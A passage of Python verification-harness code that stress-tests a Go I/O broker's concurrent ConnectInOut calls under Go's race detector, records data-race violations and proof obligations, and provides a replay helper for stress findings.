    run.oblige("stress test: %d rounds of 2-4 really concurrent ConnectInOut calls, never two requests attached" % rounds,
               rc == 0 and not st.get("crosspairs") and "error" not in st, json.dumps(st)[:1500])
    run.cov["stress_rounds"] = st.get("rounds", 0)
    # the same stress under Go's race detector: an unsynchronised access to what distinguishes the requests (the key counter) is reported
    # whatever the interleaving happened to be
    okr, rbin, rlog = vlib.build_overlay_test(run.rundir, "internal/iobroker", race=True)
    if not okr:
        run.oblige("race-detector build of the harness", False, rlog[-2000:])
    else:
        outr = os.path.join(run.rundir, "stress_race.json")
        rr = 150 if run.tier == "quick" else 3000
        try:
            rc2, o2, e2 = vlib.sh([rbin, "-test.run", "^TestVerifIoStress$", "-test.count=1"], cwd=run.rundir, timeout=900,
                                  env=dict(os.environ, VERIF_OUT=outr, VERIF_STRESS=str(rr), GORACE="halt_on_error=0"))
            txt = (o2 + e2).decode(errors="replace")
        except Exception as ex:
            rc2, txt = 1, str(ex)
        races = txt.count("WARNING: DATA RACE")
        if races:
            first = txt[txt.index("WARNING: DATA RACE"):][:2500]
            run.violation("io-stress-data-race", "Go's race detector reports unsynchronised accesses in the broker while /io requests arrive concurrently: "
                          "what keeps two requests apart (per-request key, slots) is not safely shared, so halves of different requests can pair",
                          {"stream": "stress-race", "input": {"rounds": rr, "concurrent_requests": "2-4 per round"}, "detail": {"reports": races, "first_report": first}})
        run.oblige("stress test under the race detector: %d rounds of 2-4 concurrent ConnectInOut calls, no data race reported" % rr,
                   rc2 == 0 and not races, txt[-1500:])
        run.cov["stress_race_rounds"] = rr
    run.assumptions += ["a client cannot send the random bidirectional sentinel as an ID; the per-request counter is atomic (Go's atomic.Uint64): "
                        "the model gives every request its own key, the harness drives requests through the real ConnectInOut"]
    run.trusted += ["harness/overlay/iobroker", "props/brokerlib.py", "coq/Model/Broker.v tied by this correspondence"]


def replay(run, path):
    import json
    if json.load(open(path)).get("case", {}).get("stream") == "stress":
        print("stress finding (scheduler dependent): re-run  bin/check C06 --tier thorough ; detail:", json.load(open(path))["case"].get("detail"))
        return 1
    return B.replay(run, path, 6)
